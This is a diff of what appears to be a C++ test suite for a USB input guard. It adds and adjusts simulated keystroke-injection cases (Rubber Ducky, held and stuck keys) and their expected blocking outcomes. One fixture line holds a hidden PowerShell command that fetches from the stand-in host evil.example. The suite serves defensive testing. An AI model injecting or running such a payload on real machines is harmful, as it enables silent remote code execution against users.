@@ -15,7 +15,7 @@ constexpr char approved_stick[] = "1209:0003:0123456789AB:u080650";
 constexpr char payload[] = "\tpowershell -w hidden -c iwr evil.example/x\n";
 
 Attack row(const char* id, Class kind, const char* source, const char* what, const Device& device,
-           Expected plug = harmless(), Expected stream = harmless()) {
+           const Expected& plug = harmless(), const Expected& stream = harmless()) {
   return {id, kind, source, what, [device] { return device; }, plug, stream};
 }
 
@@ -76,9 +76,16 @@ std::vector<Attack> input_attacks() {
   return {
       ducky_as_stick(),
       row("ducky-as-keyboard", Class::input, "USB Rubber Ducky",
-          "types a script; approved was a keyboard: its keys arrive",
-          typing_keyboard(payload, 2ms)),
-      row("ducky-1000", Class::input, "keystroke injection", "a key every millisecond without end",
+          "types a script; approved was a keyboard", typing_keyboard(payload, 2ms),
+          ended("types by itself"), ended("types by itself")),
+      [] {
+        Attack one =
+            row("ducky-let", Class::input, "USB Rubber Ducky",
+                "the same with auto-typing=yes: its keys arrive", typing_keyboard(payload, 2ms));
+        one.options = "auto-typing=yes";
+        return one;
+      }(),
+      row("key-held", Class::input, "HID 1.11", "a key's report every millisecond without end",
           reports(bytes({0, 0, 4, 0, 0, 0, 0, 0}), 1ms)),
       row("key-stuck", Class::input, "HID 1.11", "a key that is never released",
           reports(bytes({0, 0, 5, 0, 0, 0, 0, 0}), 20ms)),
